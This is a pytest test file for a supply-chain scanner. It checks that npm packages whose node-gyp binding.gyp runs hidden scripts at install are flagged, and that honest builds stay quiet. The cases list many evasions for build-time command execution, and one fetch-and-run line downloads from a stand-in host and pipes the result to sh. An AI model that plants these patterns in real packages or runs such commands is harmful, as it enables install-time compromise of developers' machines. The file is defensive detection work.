"""Builds by node-gyp that run more than a compiler."""

from pathlib import Path

import pytest
from evasions_hooks import FETCH, PYTHON, THIEF, Files, package, scanned, worst

from picketline.core.model import Severity

_X = {"x.js": THIEF}
_BUILDS: list[tuple[str, Files]] = [
    ('{"targets": [{"target_name": "x", "sources": ["<!(node x.js)"]}]}', _X),
    ('{"targets": [{"target_name": "x", "sources": ["<!@(node x.js && echo x.cc)"]}]}', _X),
    ('{"targets": [{"target_name": "x", "sources": ["<!(node x.js \\"(a)\\" && echo (b))"]}]}', _X),
    ('{"targets": [{"target_name": "x", "sources": ["<!" "(node" " x.js)"]}]}', _X),
    ("{'targets': [{'target_name': 'x', 'sources': ['<!(' 'node x.js)',],},],}", _X),
    ("# a\n{'targets': [ # b\n {'type': 'none', 'sources': ['''<!(node x.js)''']}]}", _X),
    ("{'targets': [{'type': 'none', 'sources': ['\\x3c!(node x.js)']}]}", _X),
    ("{'targets': [{'type': 'none', 'sources': ['<!([\"node\", \"x.js\"])']}]}", _X),
    ("{'targets': [{'type': 'none', 'sources': ['>!(node x.js)']}]}", _X),
    ("{'targets': [{'type': 'none', 'sources': ['^!@(node x.js)']}]}", _X),
    ("{'variables': {'a': 'node x.js'}, 'targets': [{'sources': ['<!(<(a))']}]}", _X),
    (
        "{'variables': {'a%': 'node', 'b': ['x.js']}, 'targets': [{'sources': ['<!(<(a) <(b))']}]}",
        _X,
    ),
    ("{'variables': {'a': '<!(node x.js)'}, 'targets': []}", _X),
    ("{'conditions': [['OS!=\"win\"', {'targets': [{'sources': ['<!(node x.js)']}]}]]}", _X),
    ("{'conditions': [['\"<!(node x.js)\"==\"\"', {}]], 'targets': []}", _X),
    (
        (
            "{'targets': [{'actions': [{'action_name': 'a', 'inputs': [], 'outputs': ['o'],"
            " 'action': ['node', 'x.js']}]}]}"
        ),
        _X,
    ),
    ("{'targets': [{'actions': [{'action': ['sh', '-c', 'node x.js']}]}]}", _X),
    (
        (
            "{'targets': [{'actions': [{'action': ['<(PRODUCT_DIR)/../../x.sh', 'a']},"
            " {'action': ['./x.sh']}]}]}"
        ),
        {"x.sh": FETCH},
    ),
    ("{'targets': [{'actions': [{'action': ['python', 'x.py']}]}]}", {"x.py": PYTHON}),
    ("{'targets': [{'actions': [{'action': ['<(python)', 'x.py']}]}]}", {"x.py": PYTHON}),
    (
        (
            "{'targets': [{'rules': [{'rule_name': 'r', 'action': ['node', 'x.js',"
            " '<(RULE_INPUT_PATH)']}]}]}"
        ),
        _X,
    ),
    ("{'targets': [{'postbuilds': [{'postbuild_name': 'p', 'action': ['node', 'x.js']}]}]}", _X),
    ("{'targets': [{'actions': [{'action': ['bash', '-c', '" + FETCH + "']}]}]}", {}),
    (
        "{'includes': ['a.gypi'], 'targets': []}",
        {"a.gypi": "{'variables': {'x': '<!(node x.js)'}}", **_X},
    ),
    (
        "{'includes': ['build/a.gypi'], 'targets': []}",
        {"build/a.gypi": "{'variables': {'x': '<!(node y.js)'}}", "build/y.js": THIEF},
    ),
    (
        "{'targets': [{'dependencies': ['deps/b.gyp:b']}]}",
        {"deps/b.gyp": "{'targets': [{'sources': ['<!(node y.js)']}]}", "deps/y.js": THIEF},
    ),
    ("{'targets': [{'sources': ['<!pymod_do_main(tool a b)']}]}", {"tool.py": PYTHON}),
    ("{'targets': [{'sources': ['<!(node -e \"require(\\'./x\\')\")']}]}", _X),
    ("{'targets': [{'sources': ['<!(node -p \"require(\\'./x.js\\').include\")']}]}", _X),
    (f"{{'targets': [{{'sources': ['<!({FETCH})']}}]}}", {}),
    (
        "{'targets': [{'sources': ['<!(curl -s http://a.example/i -o /tmp/i && sh /tmp/i)']}]}",
        {},
    ),
    (
        "{'targets': [{'sources': ['<!(python3 -c \"import os; os.system(\\'"
        + FETCH
        + "\\')\")']}]}",
        {},
    ),
    ("{'make_global_settings': [['CXX', './x.sh']], 'targets': []}", {"x.sh": FETCH}),
    ("{'targets': [{'include_dirs': ['<!(sh -c \"X=x.js; node $X\")']}]}", _X),
]


@pytest.mark.parametrize(("build", "files"), _BUILDS, ids=[each for each, _ in _BUILDS])
@pytest.mark.parametrize("script", ["", "node-gyp rebuild", "prebuild-install || node-gyp rebuild"])
def test_a_build_is_followed(script: str, build: str, files: Files, tmp_path: Path) -> None:
    """Commands of a build, and what they lead to, are told as any hook's."""
    scripts = {"install": script} if script else {}
    made = package("", {"binding.gyp": build, **files}, scripts=scripts)
    severity, chain = worst(scanned(tmp_path, made))
    assert severity >= Severity.HIGH
    assert "binding.gyp" in chain


@pytest.mark.parametrize(
    "build",
    [
        (
            "{'targets': [{'target_name': 'a', 'sources': ['a.cc'], 'include_dirs': "
            "['<!(node -p \"require(\\'node-addon-api\\').include_dir\")']}]}"
        ),
        (
            "{'targets': [{'target_name': 'a', 'sources': ['a.cc'], 'libraries': "
            "['<!@(pkg-config --libs libpng)'], 'cflags': ['<!@(pkg-config --cflags libpng)']}]}"
        ),
        (
            "{'targets': [{'target_name': 'a', 'sources': ['<!@(node -p \"require(\\'fs\\')"
            ".readdirSync(\\'./src\\').map(f=>\\'src/\\'+f).join(\\' \\')\")']}]}"
        ),
        (
            "{'variables': {'fips': ''}, 'targets': [{'target_name': 'copy', 'type': 'none', "
            "'copies': [{'files': ['<(PRODUCT_DIR)/a.node'], 'destination': 'lib'}]}]}"
        ),
        "{'targets': [{'actions': [{'action': ['python', 'gen.py', '<@(_inputs)']}]}]}",
    ],
)
def test_an_honest_build_is_quiet(build: str, tmp_path: Path) -> None:
    """Asking for folders of headers, and making sources, is what builds do."""
    files = {"binding.gyp": build, "a.cc": "int x;", "gen.py": "import sys\nprint(sys.argv)\n"}
    severity, _ = worst(scanned(tmp_path, package("", files)))
    assert severity < Severity.MEDIUM


def test_a_build_without_sources_that_runs_a_file(tmp_path: Path) -> None:
    """A build that compiles nothing and starts a script that acts is no build."""
    acts = "require('child_process').exec(process.argv[2]);\n"
    build = "{'targets': [{'target_name': 'x', 'type': 'none', 'sources': ['<!(node x.js)']}]}"
    severity, chain = worst(scanned(tmp_path, package("", {"binding.gyp": build, "x.js": acts})))
    assert severity >= Severity.HIGH
    assert chain.endswith("x.js")
